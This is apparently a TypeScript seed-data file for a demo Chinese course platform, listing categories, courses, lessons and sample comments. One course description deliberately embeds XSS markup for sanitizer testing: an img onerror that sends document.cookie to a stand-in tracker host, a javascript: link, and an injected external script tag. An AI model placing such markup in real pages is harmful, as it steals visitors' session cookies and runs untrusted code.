/** Demo catalogue: categories, courses and their lessons. */

export const CATEGORIES: Array<{ name: string; children: string[] }> = [
  { name: '前端开发', children: ['JavaScript', 'Vue', 'React', '小程序'] },
  { name: '后端开发', children: ['Go', 'PHP', 'Java', 'Python'] },
  { name: '数据库', children: ['MySQL', 'Redis', 'MongoDB'] },
  { name: '运维与云原生', children: ['Linux', 'Docker', 'Kubernetes'] },
  { name: '人工智能', children: ['机器学习', '深度学习', '大模型应用'] },
  { name: '产品与设计', children: ['产品经理', 'UI设计'] },
  { name: '职场提升', children: [] },
];

export interface SeedCourse {
  title: string;
  category: string;
  charge: number;
  rec?: boolean;
  short: string;
  lessons: string;
  /** Lessons without chapters (the course's `videos` map is then keyed by 0 only). */
  flat?: boolean;
}

/**
 * Course 1's description carries everything a client must render or refuse: TeX math in all four
 * delimiters, a highlighted code block, and markup an editor pasted in that must never run.
 */
export const COURSE_ONE_DESC = `<h2>课程简介</h2>
<p>这门课从复杂度分析讲起，用 JavaScript 把常见的数据结构和算法亲手实现一遍。每一节都配有可运行的代码和 LeetCode 真题讲解。</p>
<h3>你将学到</h3>
<ul>
<li>用大 O 记号估算代码的运行时间，例如归并排序满足 $T(n) = 2T(n/2) + O(n)$，因此 $T(n) = O(n \\log n)$。</li>
<li>二分查找最多比较 \\(\\lceil \\log_2 (n+1) \\rceil\\) 次。</li>
<li>动态规划的状态转移，例如斐波那契数列：</li>
</ul>
$$F(n) = F(n-1) + F(n-2), \\quad F(0) = 0,\\ F(1) = 1$$
<p>以及它的通项公式：</p>
\\[F(n) = \\frac{1}{\\sqrt{5}}\\left[\\left(\\frac{1+\\sqrt{5}}{2}\\right)^n - \\left(\\frac{1-\\sqrt{5}}{2}\\right)^n\\right]\\]
<h3>示例代码</h3>
<pre><code class="language-js">function binarySearch(arr, target) {
  let lo = 0;
  let hi = arr.length - 1;
  while (lo &lt;= hi) {
    const mid = (lo + hi) &gt;&gt;&gt; 1;
    if (arr[mid] === target) return mid;
    if (arr[mid] &lt; target) lo = mid + 1;
    else hi = mid - 1;
  }
  return -1;
}</code></pre>
<p><img src="/images/cover/algo-diagram.svg?t=%E5%A4%8D%E6%9D%82%E5%BA%A6%E6%9B%B2%E7%BA%BF" alt="复杂度曲线" onerror="this.src='https://tracker.example.com/pixel.gif?c='+document.cookie"></p>
<p>课程答疑群二维码见课程附件。<a href="javascript:alert('领取优惠券')">点击领取优惠券</a></p>
<script>window._hmt = window._hmt || []; (function(){ var s = document.createElement('script'); s.src = 'https://tracker.example.com/hm.js'; document.body.appendChild(s); })();</script>
<h3>适合人群</h3>
<p>有一定 JavaScript 基础、准备技术面试或想夯实基本功的前端工程师。</p>`;

export const COURSES: SeedCourse[] = [
  {
    title: 'JavaScript 数据结构与算法精讲',
    category: 'JavaScript',
    charge: 99,
    rec: true,
    short: '用 JavaScript 手写常见数据结构与算法，配合真题讲解，轻松应对技术面试。',
    lessons:
      '课程导学与学习方法|复杂度分析：大O记号|数组与链表|栈与队列的实现|哈希表原理|二叉树的遍历|二分查找及其变体|排序算法全解|动态规划入门|面试真题串讲',
  },
  {
    title: 'Vue 3 + TypeScript 企业级项目实战',
    category: 'Vue',
    charge: 199,
    rec: true,
    short: '从零搭建一个后台管理系统，掌握 Composition API、Pinia、Vue Router 与工程化实践。',
    lessons:
      '项目介绍与技术选型|Vite 工程初始化|Composition API 核心|响应式原理剖析|Pinia 状态管理|路由与权限控制|封装请求层|表格与表单组件封装|打包优化与部署',
  },
  {
    title: 'Vue 3 零基础入门',
    category: 'Vue',
    charge: 0,
    short: '面向零基础同学的 Vue 3 入门课，一周掌握模板语法、组件和常用指令。',
    lessons: '认识 Vue|模板语法|计算属性与侦听器|条件与列表渲染|组件基础|组件通信|做一个待办清单',
  },
  {
    title: 'React 18 核心原理与实战',
    category: 'React',
    charge: 249,
    rec: true,
    short: '深入 Fiber 架构、并发渲染与 Hooks 原理，并完成一个电商前台项目。',
    lessons:
      'JSX 与虚拟 DOM|Hooks 全家桶|useEffect 的心智模型|Fiber 架构|并发特性|状态管理方案对比|性能优化|电商项目实战',
  },
  {
    title: 'Next.js 全栈开发指南',
    category: 'React',
    charge: 169,
    short: '使用 Next.js App Router 构建服务端渲染应用，涵盖数据获取、缓存与部署。',
    lessons: 'App Router 基础|服务端组件|数据获取与缓存|路由处理程序|身份认证|数据库集成|部署到生产环境',
  },
  {
    title: '微信小程序开发从入门到上线',
    category: '小程序',
    charge: 129,
    short: '完整走一遍小程序开发、调试、审核与上线流程，附带云开发实战。',
    lessons: '注册与开发者工具|WXML 与 WXSS|页面生命周期|组件与自定义组件|网络请求与登录|云开发数据库|发布与审核',
  },
  {
    title: 'uni-app 跨端开发实战',
    category: '小程序',
    charge: 149,
    short: '一套代码发布到 H5、小程序和 App，掌握条件编译与原生能力调用。',
    lessons: 'uni-app 工程结构|页面与路由|条件编译|状态管理|原生插件|打包发布多端',
  },
  {
    title: 'CSS 布局与动画进阶',
    category: 'JavaScript',
    charge: 0,
    short: 'Flex、Grid 与动画一次讲透，告别布局玄学。',
    lessons: '盒模型回顾|Flex 布局|Grid 布局|响应式设计|过渡与动画|常见布局案例',
  },
  {
    title: 'TypeScript 类型体操',
    category: 'JavaScript',
    charge: 79,
    short: '从泛型到条件类型，写出类型安全又易用的 TypeScript 代码。',
    lessons: '基础类型回顾|泛型|条件类型|映射类型|infer 关键字|类型体操真题',
  },
  {
    title: 'Go 语言从入门到精通',
    category: 'Go',
    charge: 199,
    rec: true,
    short: '系统学习 Go 语法、并发模型与标准库，完成一个高并发短链服务。',
    lessons:
      '环境搭建与 Hello World|变量、类型与函数|结构体与接口|错误处理|goroutine 与 channel|context 的使用|标准库精选|短链服务实战',
  },
  {
    title: 'Go 微服务架构实战',
    category: 'Go',
    charge: 299,
    short: '基于 gRPC 与 etcd 构建微服务，讲解服务发现、链路追踪与熔断限流。',
    lessons: '微服务拆分原则|gRPC 基础|服务注册与发现|配置中心|链路追踪|熔断与限流|容器化部署',
  },
  {
    title: 'Laravel 10 开发在线教育系统',
    category: 'PHP',
    charge: 159,
    short: '用 Laravel 从零实现课程、订单与支付模块，掌握现代 PHP 开发。',
    lessons: 'Laravel 安装与目录结构|路由与控制器|Eloquent ORM|表单验证|队列与事件|支付对接|接口鉴权',
  },
  {
    title: 'PHP 8 新特性速览',
    category: 'PHP',
    charge: 0,
    short: '半小时了解 PHP 8 的 JIT、命名参数、枚举与只读属性。',
    lessons: 'JIT 编译器|命名参数与联合类型|match 表达式|枚举|只读属性',
    flat: true,
  },
  {
    title: 'Spring Boot 3 快速上手',
    category: 'Java',
    charge: 129,
    short: '快速搭建 RESTful 服务，掌握自动配置、数据访问与测试。',
    lessons: '创建第一个项目|自动配置原理|Web 开发|数据访问 JPA|统一异常处理|单元测试|打包与部署',
  },
  {
    title: 'Java 并发编程深度解析',
    category: 'Java',
    charge: 269,
    rec: true,
    short: '从 JMM 到 AQS，彻底搞懂 Java 并发工具与线程池的实现。',
    lessons: 'Java 内存模型|synchronized 原理|volatile 与 happens-before|AQS 源码|线程池|并发容器|CompletableFuture',
  },
  {
    title: 'JVM 性能调优实战',
    category: 'Java',
    charge: 199,
    short: '通过真实线上案例学习 GC 日志分析、内存泄漏排查与参数调优。',
    lessons: 'JVM 内存结构|垃圾回收算法|G1 与 ZGC|GC 日志分析|内存泄漏排查|调优案例',
  },
  {
    title: 'Python 编程零基础入门',
    category: 'Python',
    charge: 0,
    rec: true,
    short: '零基础也能学会的 Python 入门课，边学边练。',
    lessons: '安装 Python|变量与数据类型|条件与循环|函数|列表与字典|文件操作|小项目：记账本',
  },
  {
    title: 'Python 爬虫与数据分析',
    category: 'Python',
    charge: 149,
    short: '使用 requests、BeautifulSoup 与 pandas 完成数据采集、清洗与可视化。',
    lessons: 'HTTP 基础|requests 与解析|反爬与应对|pandas 入门|数据清洗|可视化图表|综合案例',
  },
  {
    title: 'FastAPI 构建高性能接口',
    category: 'Python',
    charge: 99,
    short: '基于类型注解的现代 Python Web 框架，异步、高性能、自带文档。',
    lessons: 'FastAPI 简介|路径与查询参数|请求体与校验|依赖注入|数据库集成|认证与授权|部署',
  },
  {
    title: 'MySQL 索引与查询优化',
    category: 'MySQL',
    charge: 129,
    rec: true,
    short: '理解 B+ 树索引，读懂执行计划，解决慢查询。',
    lessons: 'InnoDB 存储结构|B+ 树索引|联合索引与最左前缀|EXPLAIN 执行计划|慢查询分析|SQL 改写技巧',
  },
  {
    title: 'MySQL 事务与锁',
    category: 'MySQL',
    charge: 99,
    short: 'MVCC、隔离级别、间隙锁与死锁排查，一课讲清。',
    lessons: '事务的 ACID|隔离级别|MVCC 实现|行锁与间隙锁|死锁分析|主从复制',
  },
  {
    title: 'Redis 核心技术与实战',
    category: 'Redis',
    charge: 169,
    rec: true,
    short: '掌握 Redis 数据结构、持久化、集群，以及缓存穿透、雪崩等高频问题。',
    lessons: '五大数据结构|持久化 RDB 与 AOF|主从与哨兵|Cluster 集群|缓存穿透与雪崩|分布式锁|排行榜实战',
  },
  {
    title: 'MongoDB 文档数据库入门',
    category: 'MongoDB',
    charge: 59,
    short: '文档模型、聚合管道与索引，快速上手 MongoDB。',
    lessons: '文档模型|增删改查|聚合管道|索引|副本集',
  },
  {
    title: 'SQL 必知必会',
    category: '数据库',
    charge: 0,
    short: '面向所有开发者的 SQL 基础课，从 SELECT 到窗口函数。',
    lessons: 'SELECT 基础|过滤与排序|聚合与分组|多表连接|子查询|窗口函数',
  },
  {
    title: 'Linux 运维基础',
    category: 'Linux',
    charge: 0,
    short: '常用命令、权限、进程与网络排查，运维入门第一课。',
    lessons: '文件与目录|用户与权限|进程管理|软件包管理|网络排查|Shell 脚本入门',
  },
  {
    title: 'Shell 脚本编程实战',
    category: 'Linux',
    charge: 69,
    short: '编写健壮的 Bash 脚本，自动化日常运维任务。',
    lessons: '变量与引用|条件与循环|函数|文本处理三剑客|定时任务|实战：日志巡检脚本',
  },
  {
    title: 'Docker 容器化从入门到实践',
    category: 'Docker',
    charge: 129,
    rec: true,
    short: '镜像、容器、网络与存储，用 Compose 编排多服务应用。',
    lessons: '容器与虚拟机|镜像与容器|Dockerfile 最佳实践|数据卷|容器网络|Docker Compose|镜像仓库',
  },
  {
    title: 'Kubernetes 实战指南',
    category: 'Kubernetes',
    charge: 299,
    rec: true,
    short: '从 Pod 到 Operator，搭建并运维一个生产可用的 Kubernetes 集群。',
    lessons: '集群架构|Pod 与控制器|Service 与 Ingress|配置与密钥|存储卷|调度与亲和性|Helm 包管理|监控告警',
  },
  {
    title: 'CI/CD 持续交付实践',
    category: '运维与云原生',
    charge: 149,
    short: '基于 GitLab CI 与 Argo CD 构建自动化发布流水线。',
    lessons: '持续集成概念|GitLab CI 流水线|制品管理|自动化测试|Argo CD 部署|灰度发布',
  },
  {
    title: '机器学习入门：从线性回归开始',
    category: '机器学习',
    charge: 199,
    rec: true,
    short: '用直观的方式理解损失函数、梯度下降与模型评估。',
    lessons: '什么是机器学习|线性回归|梯度下降|逻辑回归|决策树|模型评估|特征工程',
  },
  {
    title: '机器学习数学基础',
    category: '机器学习',
    charge: 99,
    short: '线性代数、概率论与微积分中机器学习真正用到的部分。',
    lessons: '向量与矩阵|矩阵分解|导数与梯度|概率分布|贝叶斯定理|最大似然估计',
  },
  {
    title: '深度学习与 PyTorch 实战',
    category: '深度学习',
    charge: 299,
    short: '从感知机到 Transformer，用 PyTorch 实现经典网络结构。',
    lessons: '张量与自动求导|神经网络基础|卷积神经网络|循环神经网络|注意力机制|Transformer|模型训练技巧',
  },
  {
    title: '计算机视觉项目实战',
    category: '深度学习',
    charge: 249,
    short: '图像分类、目标检测与图像分割三个完整项目。',
    lessons: '数据集准备|图像分类|目标检测 YOLO|图像分割|模型部署',
  },
  {
    title: '大模型应用开发：RAG 与 Agent',
    category: '大模型应用',
    charge: 399,
    rec: true,
    short: '基于大语言模型构建知识库问答与智能体应用。',
    lessons: '大模型基础|提示词工程|向量数据库|RAG 检索增强|函数调用|Agent 设计模式|应用上线与评估',
  },
  {
    title: '提示词工程入门',
    category: '大模型应用',
    charge: 0,
    short: '写好提示词的十个原则，附大量可直接套用的模板。',
    lessons: '提示词的结构|角色与上下文|少样本示例|思维链|常见误区',
  },
  {
    title: '产品经理入门必修课',
    category: '产品经理',
    charge: 99,
    short: '需求分析、原型设计、PRD 撰写与项目推进，一站式入门。',
    lessons: '产品经理的职责|用户研究|需求分析|原型设计|撰写 PRD|项目管理|数据分析基础',
  },
  {
    title: '数据驱动的产品增长',
    category: '产品经理',
    charge: 199,
    short: '指标体系、A/B 测试与增长模型，用数据指导产品决策。',
    lessons: '北极星指标|漏斗分析|留存分析|A/B 测试|增长实验案例',
  },
  {
    title: 'Figma UI 设计实战',
    category: 'UI设计',
    charge: 129,
    short: '从组件库到交互原型，完成一款 App 的完整界面设计。',
    lessons: 'Figma 基础操作|布局网格|组件与变体|自动布局|设计系统|交互原型',
  },
  {
    title: '设计规范与组件库搭建',
    category: 'UI设计',
    charge: 159,
    short: '建立团队可复用的设计规范，提升设计与研发协作效率。',
    lessons: '为什么需要设计规范|色彩与字体|间距与栅格|图标规范|组件库维护',
  },
  {
    title: '高效沟通与汇报',
    category: '职场提升',
    charge: 49,
    short: '结构化表达、向上汇报与跨部门协作的实用方法。',
    lessons: '金字塔原理|向上汇报|跨部门沟通|会议组织|书面表达',
  },
  {
    title: '程序员的时间管理',
    category: '职场提升',
    charge: 0,
    short: '告别加班焦虑，用科学的方法管理任务与精力。',
    lessons: '番茄工作法|任务拆解|精力管理|减少打断',
  },
  {
    title: '技术面试通关指南',
    category: '职场提升',
    charge: 79,
    rec: true,
    short: '简历优化、算法面试、系统设计与谈薪技巧全覆盖。',
    lessons: '简历怎么写|算法面试准备|系统设计面试|行为面试|谈薪技巧',
  },
  {
    title: 'Node.js 后端开发实战',
    category: 'JavaScript',
    charge: 179,
    short: '基于 Node.js 与 TypeScript 构建 REST 服务，涵盖鉴权、日志与测试。',
    lessons: '事件循环|模块系统|HTTP 服务|中间件设计|数据库访问|鉴权与安全|测试与部署',
  },
  {
    title: 'Git 版本控制完全指南',
    category: '运维与云原生',
    charge: 0,
    short: '从基本提交到分支策略与冲突解决，团队协作必备。',
    lessons: '基本概念|提交与历史|分支与合并|变基|冲突解决|团队工作流',
  },
  {
    title: 'Rust 编程入门',
    category: '后端开发',
    charge: 189,
    short: '所有权、借用与生命周期，写出安全又高效的系统程序。',
    lessons: '安装与 Cargo|所有权|借用与引用|结构体与枚举|错误处理|泛型与 trait|并发编程',
  },
  {
    title: '网络安全基础与 Web 攻防',
    category: '后端开发',
    charge: 229,
    short: 'XSS、CSRF、SQL 注入等常见漏洞的原理、利用与防御。',
    lessons: 'HTTP 与同源策略|XSS 跨站脚本|CSRF|SQL 注入|文件上传漏洞|安全开发规范',
  },
];

export const COMMENTS = [
  '讲得非常清楚，跟着敲了一遍代码，收获很大！',
  '老师的节奏很好，难点都讲到了，推荐给同事了。',
  '第三章的例子有点快，建议再放慢一点。',
  '终于搞懂了这个知识点，之前看文档一直云里雾里。',
  '课程质量很高，期待老师出进阶课程。',
  '配套的源码和课件很实用，直接用到了项目里。',
  '有没有学习交流群？想和大家一起讨论。',
  '实战部分很接地气，和工作中遇到的问题一模一样。',
  '已经二刷了，每次都有新的收获。',
  '声音有点小，其他都很好。',
  '性价比很高，比买书看效率高多了。',
  '希望能增加一些课后练习题。',
  '面试的时候正好被问到，答得很顺利，感谢老师！',
  '概念讲解透彻，图示也很直观。',
  '请问课件在哪里下载？找了半天没找到。',
  '从零基础跟下来，现在能独立完成小项目了。',
  '内容有点多，需要花时间消化。',
  '老师能不能讲讲生产环境的踩坑经验？',
];

export const PROVINCES = ['北京', '上海', '广东', '浙江', '江苏', '四川', '湖北', '山东', '福建', '陕西'];
